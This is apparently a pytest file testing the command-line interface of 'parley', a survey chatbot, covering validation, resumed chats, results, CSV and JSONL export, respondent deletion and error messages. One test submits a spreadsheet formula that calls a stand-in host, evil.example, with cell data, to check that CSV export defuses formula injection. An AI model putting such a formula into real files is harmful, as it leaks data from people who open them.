"""The ``parley`` command as a new user runs it: validate, chat (with resume), results,
export, forget, db upgrade, and clear errors."""

from __future__ import annotations

import csv
import io
import json
import socket
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.services import export

BROKEN = """id: broken
kind: microsurvey
title: Broken
steps:
  - id: score
    type: nps
    text: How likely?
    wehn: score > 3
  - id: why
    when: scroe <= 6
    type: text
    text: Why?
"""


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


@pytest.fixture
def env(tmp_flows: Path, tmp_path: Path) -> list[str]:
    return ["--db", str(tmp_path / "cli.db"), "--flows", str(tmp_flows)]


def invoke(runner: CliRunner, args: list[str], input: str | None = None):  # type: ignore[no-untyped-def]
    return runner.invoke(main, args, input=input, catch_exceptions=False)


def test_validate_starter_flows_one_line_per_file(
    runner: CliRunner, env: list[str], tmp_flows: Path
) -> None:
    result = invoke(runner, ["validate", *env])
    assert result.exit_code == 0, result.output
    lines = result.output.strip().splitlines()
    files = sorted(p for p in tmp_flows.rglob("*.yml"))
    assert len(lines) == len(files)
    assert all(line.startswith("ok    ") for line in lines)
    assert any("nps.yml: flow 'nps' (microsurvey)" in line for line in lines)


def test_validate_broken_flow_exits_1_with_located_errors(
    runner: CliRunner, env: list[str], tmp_flows: Path
) -> None:
    (tmp_flows / "broken.yml").write_text(BROKEN)
    result = runner.invoke(main, ["validate", *env])
    assert result.exit_code == 1
    assert "FAIL" in result.stdout and "broken.yml: 1 problem(s)" in result.stdout
    assert "broken.yml:8:5: unknown key 'wehn' (did you mean 'when'?)" in result.stdout
    chat = runner.invoke(main, ["chat", "broken", "--as", "ann", *env])
    assert chat.exit_code != 0 and "the flow 'broken' does not load" in chat.output
    assert "unknown key 'wehn'" in chat.output  # not "no flow called 'broken'"


def test_validate_single_file(runner: CliRunner, env: list[str], tmp_flows: Path) -> None:
    result = invoke(runner, ["validate", str(tmp_flows / "nps.yml"), *env])
    assert result.exit_code == 0
    assert len(result.output.strip().splitlines()) == 1


def test_chat_resume_results_export_forget(
    runner: CliRunner, env: list[str], tmp_path: Path
) -> None:
    # answer the score, then the input ends (like Ctrl-D / closing the terminal): paused
    first = invoke(runner, ["chat", "nps", "--as", "ann", *env], input="3\n")
    assert first.exit_code == 0
    assert "How likely are you to recommend" in first.output
    assert "Paused" in first.output
    # the way back names the same person, database and flows
    assert f"Run `parley chat nps --as ann --db {env[1]} --flows {env[3]}`" in first.output
    # run it again: it resumes at the follow-up, not at the score
    second = invoke(
        runner, ["chat", "nps", "--as", "ann", *env], input="eleven\nToo slow to load\n"
    )
    assert second.exit_code == 0
    assert "picking up where you left off" in second.output
    assert "How likely are you to recommend" not in second.output
    assert "Please type" not in second.output  # 'eleven' is a fine text answer here
    invoke(runner, ["chat", "nps", "--as", "bob", *env], input="10\nFast\n")

    results = invoke(runner, ["results", "nps", "--format", "json", *env])
    data = json.loads(results.output)
    assert data["responses"] == 2 and data["completed"] == 2 and data["completion_rate"] == 100.0
    score = data["steps"][0]["scale"]
    assert (
        score["score"] == 0.0
        and score["distribution"]["3"] == 1
        and score["distribution"]["10"] == 1
    )
    text = invoke(runner, ["results", "nps", *env]).output
    assert "NPS: +0" in text and "completion rate: 100%" in text

    exported = invoke(runner, ["export", "--flow", "nps", *env]).output
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [(r["respondent"], r["step"]) for r in rows][:2] == [
        ("cli:ann", "score"),
        ("cli:ann", "why_low"),
    ]
    assert rows[0]["value"] == "3" and rows[0]["flow_version"]
    assert rows[0]["answered_at"].endswith("+00:00")  # ISO 8601 with its zone
    out = tmp_path / "answers.jsonl"
    result = invoke(runner, ["export", "--format", "jsonl", "--out", str(out), *env])
    assert "wrote 4 answers" in result.output
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert {line["respondent"] for line in lines} == {"cli:ann", "cli:bob"}

    person = json.loads(invoke(runner, ["export", "--respondent", "cli:ann", *env]).output)
    assert [a["step_id"] for a in person["answers"]] == ["score", "why_low"]

    refused = runner.invoke(main, ["forget", "cli:ann", *env], input="n\n")
    assert refused.exit_code == 1  # aborted: nothing deleted
    assert len(list(csv.DictReader(io.StringIO(invoke(runner, ["export", *env]).output)))) == 4
    done = invoke(runner, ["forget", "cli:ann", "--yes", *env])
    assert "rows deleted — tags 1, answers 2" in done.output
    left = list(csv.DictReader(io.StringIO(invoke(runner, ["export", *env]).output)))
    assert {r["respondent"] for r in left} == {"cli:bob"}
    missing = runner.invoke(main, ["forget", "cli:ann", "--yes", *env])
    assert missing.exit_code == 1 and "no respondent with id 'cli:ann'" in missing.stderr


def test_csv_export_defuses_spreadsheet_formulas_jsonl_keeps_them(
    runner: CliRunner, env: list[str], tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    invoke(runner, ["chat", "nps", "--as", "eve", *env], input=f"3\n{formula}\n")
    rows = list(csv.DictReader(io.StringIO(invoke(runner, ["export", *env]).output)))
    values = {r["step"]: r["value"] for r in rows}
    assert values == {"score": "3", "why_low": "'" + formula}
    out = tmp_path / "answers.jsonl"
    invoke(runner, ["export", "--format", "jsonl", "--out", str(out), *env])
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert {line["step"]: line["value"] for line in lines} == {"score": 3, "why_low": formula}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (-2, "-2"),  # a number, not text: stays a number
        (None, "null"),
    ],
)
def test_csv_cells_that_start_like_a_formula_get_a_quote(value: object, cell: str) -> None:
    record = {c: "x" for c in export.EXPORT_COLUMNS} | {"value": value}
    line = export.format_record(record, "csv")
    assert line.endswith("\r\n")  # RFC 4180: a CR inside a cell is quoted, never a row end
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["x"] * 6 + [cell, "x"]]
    assert json.loads(export.format_record(record, "jsonl"))["value"] == value


def test_chat_reasks_invalid_answers_and_stop_ends(runner: CliRunner, env: list[str]) -> None:
    result = invoke(runner, ["chat", "nps", "--as", "cy", *env], input="11\n7\n/stop\n")
    assert "Please answer with a whole number from 0 to 10" in result.output
    assert "closed this survey" in result.output
    again = invoke(runner, ["chat", "nps", "--as", "cy", *env], input="")
    assert "picking up" not in again.output  # stopped conversations are not resumed


def test_chat_opt_out_sticks(runner: CliRunner, env: list[str]) -> None:
    invoke(runner, ["chat", "nps", "--as", "dee", *env], input="/optout\n")
    result = invoke(runner, ["chat", "nps", "--as", "dee", *env], input="5\n")
    assert "opted out" in result.output
    assert "How likely" not in result.output


def test_unknown_flow_is_a_clear_error(runner: CliRunner, env: list[str]) -> None:
    invoke(runner, ["db", "upgrade", *env])
    for command in (["chat", "nope"], ["results", "nope"], ["export", "--flow", "nope"]):
        result = runner.invoke(main, [*command, *env])
        assert result.exit_code == 1, command
        assert "error: no flow called 'nope'" in result.stderr
        assert result.stdout == ""  # not even a CSV header


def test_serve_on_a_taken_port_says_so_and_exits_1(runner: CliRunner, env: list[str]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        result = runner.invoke(main, ["serve", "--port", str(port), *env])
    assert result.exit_code == 1
    assert f"error: cannot listen on 127.0.0.1:{port}" in result.stderr
    assert "--port" in result.stderr and "Parley on" not in result.stdout


def test_db_upgrade_and_outdated_database(
    runner: CliRunner, env: list[str], tmp_path: Path
) -> None:
    result = invoke(runner, ["db", "upgrade", *env])
    assert "upgraded database from empty to 0" in result.output
    assert "already at revision" in invoke(runner, ["db", "upgrade", *env]).output
    import sqlite3

    with sqlite3.connect(tmp_path / "cli.db") as conn:
        conn.execute("UPDATE alembic_version SET version_num = '0003'")
    stale = runner.invoke(main, ["results", "nps", *env])
    assert stale.exit_code == 1
    assert "run `parley db upgrade --db " in stale.stderr


def test_bad_setting_is_reported(
    runner: CliRunner, env: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PARLEY_RATE_LIMIT", "lots")
    result = runner.invoke(main, ["results", "nps", *env])
    assert result.exit_code == 1
    assert "PARLEY_RATE_LIMIT" in result.stderr


def test_export_survives_text_stored_before_it_was_checked(
    runner: CliRunner, env: list[str], tmp_path: Path
) -> None:
    import sqlite3

    invoke(runner, ["chat", "nps", "--as", "ann", *env], input="3\nSlow\n")
    with sqlite3.connect(tmp_path / "cli.db") as conn:  # a lone surrogate, as JSON stores it
        conn.execute("UPDATE answer SET value = ? WHERE step_id != 'score'", ['"a\\ud800b"'])
    shown = invoke(runner, ["export", "--flow", "nps", *env])
    assert shown.exit_code == 0 and "a\\ud800b" in shown.output
    out = tmp_path / "all.csv"
    written = invoke(runner, ["export", "--out", str(out), *env])
    assert written.exit_code == 0 and "a\\ud800b" in out.read_text(encoding="utf-8")
    person = invoke(runner, ["export", "--respondent", "cli:ann", *env])
    assert person.exit_code == 0 and "a\\ud800b" in person.output


def test_bad_paths_and_ports_are_clear_errors(
    runner: CliRunner, env: list[str], tmp_path: Path
) -> None:
    typo = tmp_path / "parly.db"
    for command in (["results", "nps"], ["export"], ["forget", "cli:x", "--yes"]):
        result = runner.invoke(main, [*command, "--db", str(typo)])
        assert result.exit_code == 1, command
        assert f"error: no database at {typo}" in result.stderr
    assert not typo.exists()  # a read never makes an empty database

    invoke(runner, ["db", "upgrade", *env])
    result = runner.invoke(main, ["export", "--out", str(tmp_path / "no" / "x.csv"), *env])
    assert result.exit_code == 1
    assert "error: cannot write" in result.stderr and "No such file" in result.stderr
    result = runner.invoke(main, ["serve", "--port", "70000", *env])
    assert result.exit_code == 2 and "70000 is not in the range" in result.stderr


def test_printed_database_urls_hide_the_password() -> None:
    from bot.store.database import redacted

    shown = redacted("postgresql://parley:hunter2@db.internal:5432/parley")
    assert "hunter2" not in shown and "db.internal" in shown


def test_export_of_one_person_refuses_options_it_would_ignore(
    runner: CliRunner, env: list[str]
) -> None:
    invoke(runner, ["db", "upgrade", *env])
    for extra in (["--flow", "nps"], ["--format", "jsonl"]):
        result = runner.invoke(main, ["export", "--respondent", "cli:x", *extra, *env])
        assert result.exit_code == 2 and "leave out --flow and --format" in result.stderr


def test_chat_checks_an_email_address_before_asking_for_consent(
    runner: CliRunner, env: list[str]
) -> None:
    answers = "yes\n1\n1\n1\n1\n1\nnot-an-email\nann@example.com\nyes\n"
    result = invoke(runner, ["chat", "interview-recruit", "--as", "ivy", *env], input=answers)
    out = result.output
    assert "(press Enter to skip)" in out.split("Which email address")[1]  # always optional
    typo = out.index("does not look like an email address")
    assert typo < out.index("I agree that Acme may use this email")  # said first, then asked
    assert "We will email ann@example.com" in out


def test_the_consent_prompt_takes_yes_no_or_a_command(runner: CliRunner, env: list[str]) -> None:
    """ "yess" is not a no, and /optout at the consent prompt opts out, as anywhere else."""
    answers = "yes\n1\n1\n1\n1\n1\nann@example.com\nyess\n/optout\n"
    result = invoke(runner, ["chat", "interview-recruit", "--as", "uma", *env], input=answers)
    assert "Please answer yes or no" in result.output
    assert "Without an email address" not in result.output
    again = invoke(runner, ["chat", "nps", "--as", "uma", *env], input="9\n")
    assert "opted out" in again.output.lower()


def test_results_and_export_say_what_anonymous_answers_still_wait(
    runner: CliRunner, env: list[str], tmp_flows: Path
) -> None:
    (tmp_flows / "pulse.yml").write_text(
        "id: pulse\nkind: microsurvey\ntitle: Pulse\nanonymous: true\nexpires_after: 7d\n"
        'steps:\n  - {id: mood, type: csat, text: "How are you?"}\n'
    )
    invoke(runner, ["chat", "pulse", "--as", "vic", *env], input="4\n")
    results = invoke(runner, ["results", "pulse", *env])
    assert "1 anonymous response not counted yet" in results.output
    exported = invoke(runner, ["export", "--flow", "pulse", *env])
    assert exported.stdout.splitlines()[1:] == []  # the header only
    assert "not in this export: 1 anonymous response not counted yet" in exported.stderr


def test_chat_as_takes_the_id_export_shows_and_db_must_be_a_file(
    runner: CliRunner, env: list[str], tmp_path: Path
) -> None:
    invoke(runner, ["chat", "nps", "--as", "cli:wes", *env], input="9\n")
    person = invoke(runner, ["export", "--respondent", "cli:wes", *env])
    assert json.loads(person.stdout)["respondent"]["key"] == "cli:wes"  # not cli:cli:wes
    folder = invoke(runner, ["results", "nps", "--db", str(tmp_path), "--flows", env[3]])
    assert folder.exit_code == 1 and "is a folder: give --db a database file" in folder.output


def test_the_terminal_says_how_many_to_pick_in_words() -> None:
    from bot.channels.terminal import describe_input
    from bot.engine.messages import Ask, ChoiceOption, InputSpec

    options = tuple(ChoiceOption(f"c{n}", f"Choice {n}") for n in range(1, 4))
    some = Ask("m", "Which?", InputSpec("multi_choice", choices=options, min_picks=1, max_picks=3))
    two = Ask("m", "Which?", InputSpec("multi_choice", choices=options, min_picks=2, max_picks=2))
    assert describe_input(some)[-1] == "(pick 1 to 3 of them: their numbers, separated by commas)"
    assert describe_input(two)[-1] == "(pick 2 of them: their numbers, separated by commas)"
